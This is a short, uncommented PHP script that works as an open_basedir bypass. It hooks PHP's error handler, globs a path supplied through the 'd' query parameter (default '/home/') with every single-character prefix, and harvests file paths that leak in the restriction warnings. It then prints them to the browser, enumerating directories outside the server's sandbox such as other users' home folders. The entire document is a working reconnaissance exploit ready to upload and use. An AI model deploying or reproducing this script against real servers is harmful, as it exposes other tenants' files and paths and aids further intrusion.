<?php
$found = array();
function collect($no, $str) {
    global $found;
    if (preg_match('/open_basedir restriction in effect\. File\((.*)\) is not within/', $str, $m)) {
        $found[] = $m[1];
    }
}
set_error_handler('collect');
$base = isset($_GET['d']) ? $_GET['d'] : '/home/';
foreach (str_split('abcdefghijklmnopqrstuvwxyz0123456789') as $c) {
    glob($base . $c . '*');
}
echo implode("<br>", array_unique($found));
